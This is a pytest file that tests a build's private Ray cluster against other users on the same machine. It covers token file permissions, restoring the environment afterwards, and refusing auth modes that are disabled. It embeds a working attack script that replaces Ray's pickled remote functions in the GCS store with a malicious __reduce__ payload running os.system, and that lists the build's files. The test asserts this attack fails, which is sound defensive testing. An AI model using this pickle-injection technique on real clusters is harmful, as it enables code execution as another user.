"""Another user of the same machine: what of a build's own Ray that user can read, and whether code can be run in it."""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from data_pipeline.build import ray_token

ROOT = Path(__file__).parents[2]


@pytest.fixture
def alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """No Ray of another test, and a home and a temporary folder of this test."""
    for name in ("RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH", "RAY_AUTH_MODE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("RAY_TMPDIR", str(tmp_path))
    monkeypatch.setattr(ray_token, "_folder", None)
    monkeypatch.setattr(ray_token, "_before", {})
    yield tmp_path
    ray_token.end_private_ray()


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077, 0o777])
def test_the_token_is_closed_whatever_the_umask(mask: int, alone: Path) -> None:
    before = os.umask(mask)
    try:
        ray_token.private_ray()
    finally:
        os.umask(before)
    token = Path(os.environ["RAY_AUTH_TOKEN_PATH"])
    assert len(token.read_text()) == 64
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
    assert [stat.S_IMODE(folder.stat().st_mode) for folder in list(token.parents)[:2]] == [0o700, 0o700]
    assert os.environ["RAY_TMPDIR"] == str(alone / f"vidtwin-{os.getuid()}")
    assert not (alone / "home").exists(), "nothing is written to ~/.ray"


def test_the_environment_is_as_before_when_the_build_has_ended(alone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Else `ray job submit` behind it would send another token than the user's (401)."""
    monkeypatch.setenv("RAY_AUTH_TOKEN", "of-the-cluster")
    before = {name: value for name, value in os.environ.items() if name.startswith("RAY_")}
    ray_token.private_ray()
    token = Path(os.environ["RAY_AUTH_TOKEN_PATH"])
    assert "RAY_AUTH_TOKEN" not in os.environ, "or Ray would take it in place of the file's"
    ray_token.end_private_ray()
    assert not token.exists()
    assert {name: value for name, value in os.environ.items() if name.startswith("RAY_")} == before


@pytest.mark.parametrize("mode", ["disabled", "DISABLED", "", "none"])
def test_a_ray_without_a_token_is_refused(mode: str, alone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAY_AUTH_MODE", mode)
    with pytest.raises(ValueError, match=rf"RAY_AUTH_MODE={mode} lets every user of this machine run code"):
        ray_token.private_ray()


SECRET = "hunter2hunter2"


def secrets_of(file: Path) -> list[str]:
    """The token where a file holds one alone: 64 hexadecimal digits."""
    if file.stat().st_size != 64:
        return []
    text = file.read_text(errors="replace")
    return [text] if re.fullmatch("[0-9a-f]{64}", text) else []


VICTIM = """
import sys
from data_pipeline.build.ray_cluster import start_local_cluster
import ray
start_local_cluster(1)
@ray.remote
def unit(n): return n
ray.get(unit.remote(1))
print(ray.get_runtime_context().gcs_address, flush=True)
sys.stdin.readline()
ray.get(unit.options(runtime_env={"env_vars": {"A": "1"}}).remote(2), timeout=60)
"""
ATTACK = """
import os, sys
from ray._raylet import GcsClient
import ray.cloudpickle as pickle
os.setgroups([]); os.setgid(65534); os.setuid(65534)
for root, _, files in os.walk(sys.argv[2]):
    for name in files:
        print("SEEN", os.path.join(root, name))
class Evil:
    def __reduce__(self): return os.system, ("id > " + sys.argv[3],)
gcs = GcsClient(address=sys.argv[1])
for key in gcs.internal_kv_keys(b"RemoteFunction", b"fun"):
    old = pickle.loads(gcs.internal_kv_get(key, b"fun"))
    gcs.internal_kv_put(key, pickle.dumps({**old, "function": pickle.dumps(Evil())}), True, b"fun")
    print("REPLACED", key)
"""


@pytest.mark.slow
@pytest.mark.skipif(os.getuid() != 0, reason="only root can become another user")
def test_another_user_runs_no_code_in_a_build(tmp_path: Path) -> None:
    """The attack that once ran `id` as the build's user: it replaces the functions that Ray hands to its workers."""
    open_folder = Path("/tmp/vidtwin-attack-test")  # pytest's folders are closed to others
    shutil.rmtree(open_folder, ignore_errors=True)
    open_folder.mkdir(mode=0o777)
    open_folder.chmod(0o777)
    mark = open_folder / "code-was-run"
    environment = {name: value for name, value in os.environ.items() if not name.startswith("RAY_")}
    environment |= {"HOME": str(tmp_path), "TMPDIR": str(open_folder), "PYTHONPATH": str(ROOT)}
    environment |= {"AWS_SECRET_ACCESS_KEY": SECRET, "AWS_ENDPOINT_URL": f"http://user:{SECRET}@127.0.0.1:9"}
    victim = subprocess.Popen(
        [sys.executable, "-c", VICTIM], env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert victim.stdout is not None
        assert victim.stdin is not None
        address = victim.stdout.readline().strip()
        assert address.startswith("127.0.0.1:")
        titles = [" ".join(process.cmdline()) for process in psutil.Process(victim.pid).children(recursive=True)]
        assert any("raylet" in title for title in titles)
        (token,) = {line for file in open_folder.rglob("*") if file.is_file() for line in secrets_of(file)}
        assert not [title for title in titles if token in title or SECRET in title], "ps shows titles to everybody"
        attack = subprocess.run(
            [sys.executable, "-c", ATTACK, address, str(open_folder), str(mark)],
            env=environment | {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": "0" * 64},
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        victim.stdin.write("\n")
        victim.stdin.close()
        assert victim.wait(120) == 0
    finally:
        victim.kill()
        victim.wait()
        seen = mark.exists()
        shutil.rmtree(open_folder)
    assert "REPLACED" not in attack.stdout
    assert "SEEN" not in attack.stdout, "no file of the build can be listed"
    assert attack.returncode != 0
    assert "InvalidAuthToken" in attack.stderr or "Unauthenticated" in attack.stderr, attack.stderr
    assert not seen
    assert not (tmp_path / ".ray").exists()
